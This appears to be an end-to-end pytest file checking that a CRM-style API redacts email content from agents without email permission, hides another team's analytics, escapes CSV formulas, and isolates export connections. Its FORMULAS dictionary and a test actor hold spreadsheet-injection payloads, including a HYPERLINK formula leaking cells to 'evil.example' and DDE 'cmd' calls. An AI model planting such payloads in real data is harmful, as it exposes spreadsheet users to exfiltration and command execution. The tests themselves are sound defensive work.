"""Read-side leaks of issue 17, each reproduced as the attack and seen refused or redacted.

The caller is an agent of team `support` without email permission; everything it probes
belongs to its own team, so only the email-visibility rule stands between it and the
content: text filters that match hidden text, email-channel conversations shown in full,
another team's contact in the analytics, spreadsheet formulas in CSV exports, and exports
holding the API's connections.
"""

import contextlib
import csv
import io
import json
from datetime import UTC, datetime, timedelta

import psycopg
import pytest

from chronicle_tools.workload import Producer
from projections.contacts_report.tables import LOGS
from tests.support.bus import publish_all
from tests.support.sse import LiveStream
from tests.support.stack import Stack
from tests.support.waiting import until

pytestmark = pytest.mark.e2e
WS = "ws_leak"
DANA = ("user", "u_17", "Dana")
ANN = ("customer", "c_ann", "Ann Lee")
ROUTER = ("system", "router", None)
START = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=3)
HIDDEN = "Email (content hidden: needs email permission)"
# What the email content says, and nothing else of the story does.
SECRETS = ("swordfish", "globex", "vault")
MAIL = {"conversation_id": "conv_mail"}
CHAT = {"conversation_id": "conv_chat"}


class Story:
    """Envelopes of the workspace, a minute apart, owned by team support unless told."""

    def __init__(self) -> None:
        self.producer, self.minute = Producer(WS, "leaks"), 0

    def __call__(self, type_: str, data: dict, team: str | None = "support", actor=DANA):
        self.minute += 1
        at = START + timedelta(minutes=self.minute)
        return self.producer.envelope(type_, data, actor, at, team)

    def contacts(self) -> list:
        ann = {"contact_id": "c_ann", "name": "Ann Lee", "source": "user"}
        return [
            self("contact.added", {**ann, "emails": ["ann@example.com"]}),
            self(
                "contact.added",
                {"contact_id": "c_zed", "name": "Zed Ray", "source": "user"},
                team="billing",
            ),
        ]

    def secrets(self) -> list:
        """Email content about Ann, all of team support: the email conversation (opened
        first), an email activity, a message on the email channel inside a chat, and a
        received email; the chat's other message is no secret."""
        return [
            self(
                "conversation.opened",
                {
                    **MAIL,
                    "channel": "email",
                    "inbox_id": "support",
                    "contact_id": "c_ann",
                    "subject": "Globex offer",
                },
                actor=ANN,
            ),
            self(
                "activity.logged",
                {
                    "activity_id": "a_mail",
                    "type": "email",
                    "direction": "outbound",
                    "source": "manual",
                    "summary": "Globex merger terms",
                    "contact_id": "c_ann",
                },
            ),
            self(
                "conversation.message_received",
                {
                    **MAIL,
                    "message_id": "m1",
                    "body": "The vault code is swordfish",
                    "attachments": [{"name": "swordfish.pdf"}],
                },
                actor=ANN,
            ),
            self(
                "conversation.message_sent",
                {**MAIL, "message_id": "m2", "body": "Noted, Globex is safe with us"},
            ),
            self("conversation.interaction_closed", {**MAIL, "queue": "support"}, actor=ROUTER),
            self(
                "conversation.opened", {**CHAT, "channel": "chat", "contact_id": "c_ann"}, actor=ANN
            ),
            self(
                "conversation.message_received",
                {**CHAT, "message_id": "m3", "body": "Hello from the chat"},
                actor=ANN,
            ),
            self(
                "conversation.message_received",
                {**CHAT, "message_id": "m4", "channel": "email", "body": "Forwarded: swordfish"},
                actor=ANN,
            ),
            self(
                "email.received",
                {
                    "mailbox_id": "mb_support",
                    "message_id": "<g-1@example.com>",
                    "sender": {"address": "ann@example.com", "name": "Ann Lee"},
                    "subject": "Globex invoice",
                    "body": "Wire it to the vault",
                },
                actor=("system", "chronicle-poller", None),
            ),
        ]

    def note(self, activity_id: str, summary: str):
        data = {"activity_id": activity_id, "type": "note", "source": "manual",
                "summary": summary, "contact_id": "c_ann"}  # fmt: skip
        return self("activity.logged", data)


def agent_token(stack: Stack) -> str:
    return stack.token(WS, role="agent", teams=("support",), email_access=False)


def leaked(answer) -> list[str]:
    text = json.dumps(answer).lower()
    return [secret for secret in SECRETS if secret in text]


async def told(stack: Stack, settings, envelopes: list) -> None:
    await publish_all(settings.nats_url, envelopes)
    await until(stack.settled, what="the pipeline to settle")


GUESSES = {  # a right guess at hidden text, where each text filter looks
    "grid summary": ("/v1/activities", {"summary": "globex"}, "activities"),
    "timeline q, a message": ("/v1/contacts/c_ann/timeline", {"q": "swordfish"}, "entries"),
    "timeline q, a subject": ("/v1/contacts/c_ann/timeline", {"q": "globex offer"}, "entries"),
    "contact's emails q": ("/v1/contacts/c_ann/emails", {"q": "globex"}, "emails"),
    "message viewer q": ("/v1/conversations/conv_mail/messages", {"q": "swordfish"}, "matches"),
    "message viewer q, an email message in a chat": (
        "/v1/conversations/conv_chat/messages",
        {"q": "swordfish"},
        "matches",
    ),
}


async def test_text_filters_never_match_content_the_caller_cannot_see(settings):
    async with Stack(settings) as stack:
        story = Story()
        await told(stack, settings, story.contacts() + story.secrets())
        async with (
            stack.client(agent_token(stack)) as agent,
            stack.client(stack.token(WS)) as admin,
        ):
            seen, known = {}, {}
            for name, (path, params, key) in GUESSES.items():
                seen[name] = (await agent.get(path, params=params)).json()[key]
                known[name] = (await admin.get(path, params=params)).json()[key]
            chat = await agent.get("/v1/contacts/c_ann/timeline", params={"q": "hello from"})
    # every guess is right: a caller with email permission finds the content...
    assert all(known.values()), known
    # ...and the agent's answer to a right guess is the answer to a wrong one: nothing
    assert seen == {name: [] for name in GUESSES}
    # what the agent may read is still found
    assert [e["type"] for e in chat.json()["entries"]] == ["conversation.message_received"]


async def test_live_text_filters_never_match_content_the_caller_cannot_see(settings):
    async with Stack(settings) as stack:
        story = Story()
        await told(stack, settings, story.contacts())
        async with (
            stack.client(agent_token(stack)) as api,
            LiveStream(api, "/v1/contacts/c_ann/timeline/live", {"q": "swordfish"}) as timeline,
            LiveStream(api, "/v1/activities/live", {"summary": "globex"}) as grid,
        ):
            # the secrets first, then a note the agent may read that matches both filters:
            # anything the filters let through of the secrets arrives before it
            visible = story.note("a_note", "Visible: swordfish and globex are code names")
            await publish_all(settings.nats_url, [*story.secrets(), visible])
            entries = await timeline.wait_for(1)
            rows = await grid.wait_for(1, "activity")
    assert [e.json["details"].get("activity_id") for e in entries] == ["a_note"]
    assert [r.json["activity_id"] for r in rows] == ["a_note"]


async def test_email_channel_conversations_are_email_content_on_every_endpoint(settings):
    async with Stack(settings) as stack:
        story = Story()
        await told(stack, settings, story.contacts() + story.secrets())
        async with (
            stack.client(agent_token(stack)) as agent,
            stack.client(stack.token(WS)) as admin,
        ):
            answers = {
                path: (await agent.get(path)).json()
                for path in (
                    "/v1/contacts/c_ann/timeline?limit=100",
                    "/v1/activities?limit=500",
                    "/v1/conversations/conv_mail/audit-trail",
                    "/v1/conversations/conv_mail/messages",
                    "/v1/conversations/conv_mail/views",
                    "/v1/conversations/conv_chat/audit-trail",
                    "/v1/conversations/conv_chat/messages",
                    "/v1/contacts/c_ann/emails",
                )
            }
            everything = (await admin.get("/v1/contacts/c_ann/timeline?limit=100")).json()
    assert {path: leaked(answer) for path, answer in answers.items()} == {
        path: [] for path in answers
    }
    assert leaked(everything) == list(SECRETS)  # the content is there, for who may read it
    # the agent still sees that each event happened, when and which way
    timeline = answers["/v1/contacts/c_ann/timeline?limit=100"]["entries"]
    mail = [e for e in timeline if e["source"]["id"] == "conv_mail"]
    assert [e["type"] for e in reversed(mail)] == [
        "conversation.opened",
        "conversation.message_received",
        "conversation.message_sent",
        "conversation.interaction_closed",
    ]
    assert {e["summary"] for e in mail} == {HIDDEN}
    trail = answers["/v1/conversations/conv_mail/audit-trail"]["entries"]
    assert len(trail) == 4 and {e["summary"] for e in trail} == {HIDDEN}
    viewer = answers["/v1/conversations/conv_mail/messages"]
    assert (viewer["channel"], viewer["message_count"], viewer["subject"]) == ("email", 2, HIDDEN)
    assert [(m["direction"], m["body"]) for m in viewer["messages"]] == [
        ("inbound", HIDDEN),
        ("outbound", HIDDEN),
    ]
    chat = answers["/v1/conversations/conv_chat/messages"]
    assert [m["body"] for m in chat["messages"]] == ["Hello from the chat", HIDDEN]
    chat_trail = answers["/v1/conversations/conv_chat/audit-trail"]["entries"]
    assert [e["summary"] for e in chat_trail][1:] == [
        "Message received on chat: Hello from the chat",
        HIDDEN,
    ]


async def test_live_feeds_show_email_channel_conversations_without_their_content(settings):
    async with Stack(settings) as stack:
        story = Story()
        opened, *rest = story.secrets()
        await told(stack, settings, [*story.contacts(), opened])
        async with (
            stack.client(agent_token(stack)) as api,
            LiveStream(api, "/v1/contacts/c_ann/timeline/live") as timeline,
            LiveStream(api, "/v1/conversations/conv_mail/audit-trail/live") as trail,
            LiveStream(api, "/v1/activities/live") as grid,
        ):
            await publish_all(settings.nats_url, [*rest, story.note("a_note", "The end")])
            # each envelope's entry, a contact.connected at each conversation's first
            # message (two), and the note last
            entries = await timeline.wait_for(len(rest) + 3)
            trail_entries = await trail.wait_for(3)  # two messages, the interaction
            rows = await grid.wait_for(3, "activity")  # the email, the interaction, the note
    assert len(entries) == len(rest) + 3
    assert [e.json["details"].get("activity_id") for e in entries][-1] == "a_note"
    assert {e.data: leaked(e.json) for e in entries + trail_entries + rows if leaked(e.json)} == {}
    assert {e.json["summary"] for e in trail_entries} == {HIDDEN}
    mail = [e.json for e in entries if e.json["source"]["id"] == "conv_mail"]
    assert len(mail) == 3 and {e["summary"] for e in mail} == {HIDDEN}


async def test_analytics_of_a_contact_of_another_team_is_404_like_an_unknown_one(settings):
    async with Stack(settings) as stack:
        story = Story()
        await told(stack, settings, story.contacts() + story.secrets())
        async with (
            stack.client(agent_token(stack)) as agent,
            stack.client(stack.token(WS)) as admin,
        ):
            others = await agent.get("/v1/analytics/contacts/c_zed")
            unknown = await agent.get("/v1/analytics/contacts/c_nobody")
            own = await agent.get("/v1/analytics/contacts/c_ann")
            for_admin = await admin.get("/v1/analytics/contacts/c_zed")
            other_team = await agent.get("/v1/analytics/teams/billing")
            unknown_team = await agent.get("/v1/analytics/teams/t_nobody")
            own_team = await agent.get("/v1/analytics/teams/support")
    assert (others.status_code, unknown.status_code) == (404, 404)
    assert others.json()["detail"] == "contact 'c_zed' not found"  # as unknown's says
    assert unknown.json()["detail"] == "contact 'c_nobody' not found"
    assert others.json().keys() == unknown.json().keys()
    assert (own.status_code, for_admin.status_code) == (200, 200)
    assert for_admin.json()["subject"]["status"] == "active"
    assert (other_team.status_code, unknown_team.status_code, own_team.status_code) == (
        404,
        404,
        200,
    )
    assert other_team.json()["detail"] == "team 'billing' not found"


FORMULAS = {  # a contact id -> a name a spreadsheet would run
    "c_f1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "c_f2": "+1+cmd|' /C calc'!A0",
    "c_f3": "-2+3",
    "c_f4": "@SUM(A1:A9)",
    "c_f5": "\t=1+1",
    "c_f6": "\r=1+1",
}


async def test_csv_export_cells_never_start_a_formula_and_a_bom_is_optional(settings):
    async with Stack(settings) as stack:
        story = Story()
        evil_user = ("user", "u_evil", "=cmd|' /C calc'!A0")
        added = [
            story("contact.added", {"contact_id": c, "name": name, "source": "user"})
            for c, name in FORMULAS.items()
        ]
        added.append(
            story(
                "contact.added",
                {"contact_id": "c_by_evil", "name": "Plain Name", "source": "user"},
                actor=evil_user,
            )
        )
        await told(stack, settings, added)
        async with stack.client(stack.token(WS)) as api:
            export = "/v1/reports/contacts/logs/added/export"
            plain = await api.get(export)
            with_bom = await api.get(export, params={"bom": "true"})
            log = (await api.get("/v1/reports/contacts/logs/added")).json()
    assert plain.status_code == with_bom.status_code == 200
    lines = list(csv.DictReader(io.StringIO(plain.text, newline="")))
    names = {line["contact_id"]: line["contact_name"] for line in lines}
    assert names == {
        **{c: "'" + name for c, name in FORMULAS.items()},
        "c_by_evil": "Plain Name",
    }
    users = {line["contact_id"]: line["user"] for line in lines}
    assert users["c_by_evil"] == "'=cmd|' /C calc'!A0"
    assert not plain.content.startswith(b"\xef\xbb\xbf")
    assert with_bom.content == b"\xef\xbb\xbf" + plain.content
    # the JSON log is data, not a spreadsheet: it keeps the names as they are
    assert {r["contact_id"]: r["contact_name"] for r in log["rows"]}["c_f1"] == FORMULAS["c_f1"]


async def test_exports_have_a_small_pool_of_their_own_and_cannot_starve_the_api(settings):
    async with Stack(settings) as stack:
        story = Story()
        await told(stack, settings, story.contacts())
        export = "/v1/reports/contacts/logs/added/export"
        async with (
            stack.client(stack.token(WS)) as api,
            await psycopg.AsyncConnection.connect(settings.database_url) as locker,
        ):
            # the exports' query waits on this lock: each download holds its connection
            await locker.execute(f"LOCK TABLE {LOGS} IN ACCESS EXCLUSIVE MODE")
            async with contextlib.AsyncExitStack() as downloads:
                statuses, held = [], []
                for _ in range(12):  # more than the API's own pool of 10
                    response = await downloads.enter_async_context(api.stream("GET", export))
                    statuses.append(response.status_code)
                    if response.status_code == 200:
                        held.append(response)
                    else:
                        refused = json.loads(await response.aread())
                        retry_after = response.headers.get("retry-after")
                answered = await api.get("/v1/activities", timeout=5)
                await locker.rollback()  # the held downloads go on
                files = [(await r.aread()).decode() for r in held]
        again = await api_get(stack, export)
    assert statuses == [200, 200] + [503] * 10
    assert "export" in refused["detail"] and retry_after
    assert answered.status_code == 200  # the API's queries are answered meanwhile
    assert [len(f.strip().splitlines()) for f in files] == [3, 3]  # header, Ann, Zed
    assert again.status_code == 200  # the pool has its connections back


async def test_a_download_the_client_abandons_gives_its_connection_back(settings):
    async with Stack(settings) as stack:
        story = Story()
        await told(stack, settings, story.contacts())
        export = "/v1/reports/contacts/logs/added/export"
        async with (
            stack.client(stack.token(WS)) as api,
            await psycopg.AsyncConnection.connect(settings.database_url) as locker,
        ):
            await locker.execute(f"LOCK TABLE {LOGS} IN ACCESS EXCLUSIVE MODE")
            for _ in range(2):  # every export connection, each download then abandoned
                async with api.stream("GET", export) as response:
                    assert response.status_code == 200
            await locker.rollback()

            async def served() -> str | None:
                answer = await api.get(export)
                return answer.text if answer.status_code == 200 else None

            again = await until(served, what="an export connection to come back")
    assert len(again.strip().splitlines()) == 3  # the whole file: header, Ann, Zed


async def api_get(stack: Stack, path: str):
    async with stack.client(stack.token(WS)) as api:
        return await api.get(path)
